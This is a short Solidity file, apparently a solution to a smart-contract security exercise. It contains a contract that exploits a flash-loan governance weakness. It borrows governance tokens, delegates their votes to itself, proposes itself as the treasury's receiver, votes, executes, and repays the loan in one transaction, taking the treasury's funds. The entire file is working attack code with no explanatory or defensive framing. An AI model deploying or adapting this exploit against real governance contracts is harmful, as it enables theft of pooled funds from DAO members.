// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {ERC20Votes} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Votes.sol";

interface IFlashLender {
    function flashLoan(uint256 amount) external;
}

interface ITreasury {
    function propose(address payable newReceiver) external;
    function vote() external;
    function execute() external;
}

// #region attack
contract Raider {
    IFlashLender private immutable LENDER;
    ERC20Votes private immutable TOKEN;
    ITreasury private immutable TREASURY;

    constructor(IFlashLender lender, ERC20Votes token, ITreasury treasury) {
        (LENDER, TOKEN, TREASURY) = (lender, token, treasury);
    }

    function raid(uint256 amount) external {
        LENDER.flashLoan(amount);
    }

    function onLoan(uint256 amount) external {
        TOKEN.delegate(address(this)); // votes count from now on
        TREASURY.propose(payable(address(this)));
        TREASURY.vote();
        TREASURY.execute();
        TOKEN.transfer(address(LENDER), amount);
    }

    receive() external payable {}
}
// #endregion attack
